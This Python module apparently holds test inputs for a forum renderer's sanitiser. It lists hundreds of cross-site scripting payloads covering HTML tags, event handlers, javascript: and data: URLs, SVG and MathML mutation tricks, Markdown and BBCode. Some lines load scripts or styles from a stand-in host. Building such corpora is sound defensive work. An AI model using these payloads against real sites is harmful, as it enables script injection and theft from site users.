"""Texts that try to get script, style or a foreign page into what a forum shows.

Written for this renderer, after the classes that OWASP's list and the literature on mutation XSS describe.
"""

SCRIPTS = r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script/src=//evil.example/x.js></script>
<script>alert(1)
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
<script
>alert(1)</script
>
<script x>alert(1)</script y>
<script>/*</script><img src=x onerror=alert(1)>*/</script>
<script type="text/markdown">alert(1)</script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noscript><!--</noscript><img src=x onerror=alert(1)>--></noscript>
<title><img src="</title><img src=x onerror=alert(1)>"></title>
<textarea><img src="</textarea><img src=x onerror=alert(1)>"></textarea>
<xmp><img src="</xmp><img src=x onerror=alert(1)>"></xmp>
<plaintext><img src=x onerror=alert(1)>
<noembed><img src="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><img src="</noframes><img src=x onerror=alert(1)>"></noframes>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><script>alert(1)</script></template>
<style>@import '//evil.example/x.css';</style>
<style><img src="</style><img src=x onerror=alert(1)>"></style>
<style>*{background:url(javascript:alert(1))}</style>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=import href=data:text/html,x>
<base href=//evil.example/>
<base href="javascript:alert(1)//">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta charset=utf-7>+ADw-script+AD4-alert(1)
<object data=javascript:alert(1)></object>
<object type=text/html data=data:text/html,x><param name=x value=y></object>
<embed src=javascript:alert(1)>
<applet code=x.class></applet>
<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src=https://www.youtube-nocookie.com/embed/x onload=alert(1)></iframe>
<iframe/src="data:text/html,<script>alert(1)</script>">
<portal src=javascript:alert(1)></portal>
<form action=javascript:alert(1)><input type=submit></form>
<button formaction=javascript:alert(1)>x</button>
<input onfocus=alert(1) autofocus>
<select onfocus=alert(1) autofocus><option>x</select>
<textarea onfocus=alert(1) autofocus>
<keygen onfocus=alert(1) autofocus>
<isindex action=javascript:alert(1) type=image>
<dialog open onclose=alert(1)>x</dialog>
<marquee onstart=alert(1)>x</marquee>
<bgsound src=javascript:alert(1)>
<layer src=//evil.example/x></layer>
<xml id=x><x><![CDATA[<img src=x onerror=alert(1)>]]></x></xml>
<?xml-stylesheet href="javascript:alert(1)"?>
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
<![CDATA[<script>alert(1)</script>]]>
<!--<img src="--><img src=x onerror=alert(1)//">
<!--><script>alert(1)</script>-->
<!---><script>alert(1)</script>-->
<!-- --!><img src=x onerror=alert(1)> -->
<!-- <script>alert(1)</script>
</ <script>alert(1)</script>
<% <script>alert(1)</script> %>
"""

HANDLERS = r"""
<img src=x onerror=alert(1)>
<img src=x ONERROR = "alert(1)">
<img/src=x/onerror=alert(1)>
<img src="x"onerror="alert(1)">
<img src='x'onerror=alert(1)>
<img src=x:x onerror&#61;alert(1)>
<img src=`x` onerror=alert(1)>
<img src=x onerror=alert(1) x="
<img	src=x	onerror=alert(1)>
<img src=x oneonerrorrror=alert(1)>
<img src onerror /" '"= alt=alert(1)//">
<IMG DYNSRC="javascript:alert(1)">
<IMG LOWSRC="javascript:alert(1)">
<img src="x" srcset="x onerror=alert(1)">
<img src=x alt="`onerror=alert(1)">
<image src=x onerror=alert(1)>
<b onmouseover=alert(1)>x</b>
<b/onclick=alert(1)>x</b>
<p onclick="alert(1)" id=ok>x</p>
<div style="background:url(javascript:alert(1))">x</div>
<div style="width:expression(alert(1))">x</div>
<div style="position:fixed;inset:0">x</div>
<div class="modal" role="alert" data-x="y" aria-label="z">x</div>
<details open ontoggle=alert(1)>x</details>
<video><source onerror=alert(1)></video>
<video src=x onerror=alert(1) poster=javascript:alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<body onload=alert(1)>x</body>
<html onmouseover=alert(1)>x</html>
<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>
<td onclick=alert(1)>x
<a href=/x onclick=alert(1) target=_top rel=opener ping=//evil.example>x</a>
<a href="/x" title="&quot; onclick=alert(1) x=&quot;">x</a>
<a href="/x" title='" onclick="alert(1)'>x</a>
<a title="x" title="y" href="/a" href="javascript:alert(1)">x</a>
<div id="x" id="y" onclick=alert(1)>x</div>
<b title=x/onclick=alert(1)>x</b>
<b id=a&#10;onclick=alert(1)>x</b>
<x onclick=alert(1)>x</x>
<my-element onclick=alert(1) style=x>x</my-element>
"""

ADDRESSES = r"""
<a href=javascript:alert(1)>x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="&#x1F;javascript:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href="java&#9;script&colon;alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>
<a href="&#0000106&#0000097vascript:alert(1)">x</a>
<a href="javascript&#58;alert(1)">x</a>
<a href="javascript&amp;#58;alert(1)">x</a>
<a href="java&#0;script:alert(1)">x</a>
<a href="java\u0000script:alert(1)">x</a>
<a href="javascript://example.org/%0aalert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="livescript:x">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="blob:https://example.org/x">x</a>
<a href="file:///etc/passwd">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="jar:http://x!/y">x</a>
<a href="intent://x#Intent;scheme=javascript;end">x</a>
<a href="ms-msdt:/id x">x</a>
<a href="tel:1">x</a>
<a href="//evil.example">x</a>
<a href="\\evil.example">x</a>
<a href="/\evil.example">x</a>
<a href="\/evil.example">x</a>
<a href="/&Tab;/evil.example">x</a>
<a href="&#10;//evil.example">x</a>
<a href="///evil.example">x</a>
<a href="http:evil.example">x</a>
<a href="https:/evil.example">x</a>
<a href="http:\\evil.example">x</a>
<a href="http://forum.example&#64;evil.example">x</a>
<a href="http://">x</a>
<a href="http://[::1">x</a>
<a href="mailto:a@b.c?subject=x&body=<script>">x</a>
<a href="mailto:javascript:alert(1)">x</a>
<img src="javascript:alert(1)">
<img src="data:image/svg+xml,<svg onload=alert(1)>">
<img src="mailto:a@b.c">
<img src="//evil.example/x.png">
<img src=" &#14; javascript:alert(1)">
<blockquote cite="javascript:alert(1)">x</blockquote>
<q cite="data:text/html,x">x</q>
<del cite="vbscript:x">x</del>
<map name=x><area href=javascript:alert(1) shape=rect coords=0,0,9,9></map>
<area href="data:text/html,x" target=_top>
<a href="https://forum.example//evil.example">x</a>
<a href="https://forum.example/\evil.example">x</a>
<a href="https://forum.example&bsol;evil.example">x</a>
<a xlink:href="javascript:alert(1)">x</a>
<a href="//forum.example//evil.example">x</a>
"""

FOREIGN = r"""
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href=data:,alert(1) />
<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>
<svg><animate attributeName=href values=javascript:alert(1) />
<svg><set attributeName=onload to=alert(1) />
<svg><use href="data:image/svg+xml,x#x" /></svg>
<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>
<svg></p><style><a id="</style><img src=x onerror=alert(1)>">
<svg><style><img src="</style><img src=x onerror=alert(1)>"></svg>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg><desc><table><mglyph><style><img src=x onerror=alert(1)></style></desc></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">
<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)></style></math>
<math><mi><a href=javascript:alert(1)>x</a></mi></math>
<math href=javascript:alert(1)>x</math>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<table><svg><style><a title="</style><img src onerror=alert(1)>">
<p><svg><p><style><g title="</style><img src=x onerror=alert(1)>">
<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=alert(1)>">
<select><iframe><img src=x onerror=alert(1)></iframe></select>
<a><table><a href=javascript:alert(1)><td><a onclick=alert(1)>
<b><p><b><div></b><i onclick=alert(1)></p></div>
<table><tr><td><p></table><img src=x onerror=alert(1)></td>
<table><caption><img src=x onerror=alert(1)></table>
<table><colgroup><img src=x onerror=alert(1)><col onclick=alert(1)></table>
<ul><li><table><li onclick=alert(1)></table></ul>
<h1><h2 onclick=alert(1)>x</h1></h2>
<ruby><rt onclick=alert(1)><rp><script>alert(1)</script></ruby>
<details><summary onclick=alert(1)><details open><summary>
<p title="<!--"><img src=x title="--><img src=x onerror=alert(1)>">
<b id="<style>"></b><img title="</style><img src=x onerror=alert(1)>">
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;img src=x onerror=alert(1)&amp;gt;
&#60;img src=x onerror=alert(1)&#62;
%3Cscript%3Ealert(1)%3C/script%3E
\x3cscript\x3ealert(1)\x3c/script\x3e
<a href="/x">&lt;img src=x onerror=alert(1)&gt;</a>
<code>&lt;script&gt;alert(1)&lt;/script&gt;</code><script>alert(1)</script>
<pre><img src=x onerror=alert(1)></pre>
"""

MARKDOWN = r"""
[x](javascript:alert(1))
[x](JAVASCRIPT:alert(1))
[x]( javascript:alert(1) )
[x](java&#9;script:alert(1))
[x](&#106;avascript:alert(1))
[x](javascript&colon;alert(1))
[x](\javascript:alert(1))
[x](<javascript:alert(1)>)
[x](<java script:alert(1)>)
[x](javascript:alert&lpar;1&rpar;)
[x](vbscript:x)
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](//evil.example)
[x](/\\evil.example)
[x](http://ex.org "x\" onclick=\"alert(1)")
[x](http://ex.org 'x" onclick="alert(1)')
[x](http://ex.org/"onclick="alert(1))
[x](http://ex.org/<script>)
[x](<http://ex.org/ onclick=alert(1)>)
[<img src=x onerror=alert(1)>](http://ex.org)
[<script>alert(1)</script>](http://ex.org)
[![x](javascript:alert(1))](javascript:alert(1))
![x](javascript:alert(1))
![x](data:image/svg+xml,<svg/onload=alert(1)>)
![x" onerror="alert(1)](http://ex.org/x.png)
![<img src=x onerror=alert(1)>](http://ex.org/x.png)
![x](x"onerror="alert(1))
![x](http://ex.org/x.png "x\" onerror=\"alert(1)")
<javascript:alert(1)>
<JAVASCRIPT:alert(1)>
<data:text/html,x>
<http://ex.org/"onclick="alert(1)>
<a@b.c"onclick="alert(1)>
[x][1] [1]: javascript:alert(1)
http://ex.org/"onmouseover="alert(1)
http://ex.org/'onmouseover='alert(1)
http://ex.org/<script>alert(1)</script>
http://ex.org/&quot;onclick=alert(1)
http://ex.org/&lt;script&gt;
www.ex.org/"><script>alert(1)</script>
www."onclick=alert(1)
javascript:alert(1)
`<script>alert(1)</script>`
``` "><script>alert(1)</script>
~~~js" onclick="alert(1)
**<b onclick=alert(1)>x</b>**
# <img src=x onerror=alert(1)>
> <script>alert(1)</script>
- <script>alert(1)</script>
| <script>alert(1)</script> | x |
~~<img src=x onerror=alert(1)>~~
\<script>alert(1)\</script>
&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;
"""

FORUM = r"""
[url=javascript:alert(1)]x[/url]
[url=JaVaScRiPt:alert(1)]x[/url]
[url="javascript:alert(1)"]x[/url]
[url=java&#9;script:alert(1)]x[/url]
[url=data:text/html,x]x[/url]
[url=http://ex.org" onclick="alert(1)]x[/url]
[url=http://ex.org' onclick='alert(1)]x[/url]
[url=http://ex.org><script>alert(1)</script>]x[/url]
[url=//evil.example]x[/url]
[url=http://ex.org]<img src=x onerror=alert(1)>[/url]
[url=http://ex.org][url=javascript:alert(1)]x[/url][/url]
[url]javascript:alert(1)[/url]
[url]http://ex.org" onclick="alert(1)[/url]
[url]http://ex.org/"onclick="alert(1)[/url]
[url]<script>alert(1)</script>[/url]
[img]javascript:alert(1)[/img]
[img]http://ex.org/x.png" onerror="alert(1)[/img]
[img]http://ex.org/x.png"onerror="alert(1)[/img]
[img]x>)<script>alert(1)</script>[/img]
[img]data:image/svg+xml,<svg>[/img]
[img][url=javascript:alert(1)]x[/url][/img]
[attach]1" onclick="alert(1)[/attach]
[attach]../../x[/attach]
[email]a@b.c" onclick="alert(1)[/email]
[email=javascript:alert(1)]x[/email]
[email]a@b.c>[x](javascript:alert(1))<[/email]
[quote=<script>alert(1)</script>]x[/quote]
[quote="><img src=x onerror=alert(1)>]x[/quote]
[quote=bob]<script>alert(1)[/quote]</script>
[color=red" onclick="alert(1)]x[/color]
[color=expression(alert(1))]x[/color]
[b]<img src=x onerror=alert(1)>[/b]
[b onclick=alert(1)]x[/b]
[b][i]<script>[/b]alert(1)</script>[/i]
[cite]<svg onload=alert(1)>[/cite]
[list]<script>alert(1)</script>[*]x[/list]
#<script>alert(1)</script>
#tag"onclick="alert(1)
#tag<img src=x onerror=alert(1)>
@<script>alert(1)</script>
@bob"onclick="alert(1)
@bob<img src=x onerror=alert(1)>
+<svg/onload=alert(1)>
@javascript:alert(1)
https://www.youtube.com/watch?v="><script>alert(1)</script>
https://www.youtube.com/watch?v=abcdefghijk"onload="alert(1)
https://youtu.be/abcdefghij<
https://vimeo.com/1"onload="alert(1)
https://www.google.com/calendar/embed?src="><script>alert(1)</script>
https://www.google.com/calendar/embed?src=javascript:alert(1)&title=<script>
https://ridewithgps.com@evil.example/routes/1
"""

MULTILINE = [
    '<img """><script>alert(1)</script>">',
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: <javascript:alert(1)>\n\n![x]",
    '[x]: http://ex.org "x\\" onclick=\\"alert(1)"\n\n[x]',
    "<div\nonclick=alert(1)\n>\n\nx\n\n</div>",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<script>\n\nalert(1)\n\n</script>",
    "<!--\n\n<script>alert(1)</script>\n\n-->",
    "<a href='\n\njavascript:alert(1)'>x</a>",
    "<style>\n\n</style><img src=x onerror=alert(1)>\n\n",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "    </code></pre><script>alert(1)</script>",
    "> <div title='\n\n> '><img src=x onerror=alert(1)>",
    "<table>\n\n| a |\n|---|\n| <td onclick=alert(1)> |\n\n</table>",
    "[quote]\n<div title='[/quote]\n'><img src=x onerror=alert(1)>",
    "<a href=java\nscript:alert(1)>x</a>",
    "<svg>\n\n<style>\n\n<img src=x onerror=alert(1)>\n\n</style></svg>",
    "<b\x00 onclick=alert(1)>x</b>",
    "<img src=x on\x00error=alert(1)>",
    "<a href='java\x01script:alert(1)'>x</a>",
    "\ufeff<script>alert(1)</script>",
    "<scr\u00adipt>alert(1)</scr\u00adipt>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u017fcript <\u017fcript>alert(1)</\u017fcript>",
]

LINES = [
    line
    for block in (SCRIPTS, HANDLERS, ADDRESSES, FOREIGN, MARKDOWN, FORUM)
    for line in block.strip().split("\n")
    if line
]
PAYLOADS = LINES + MULTILINE
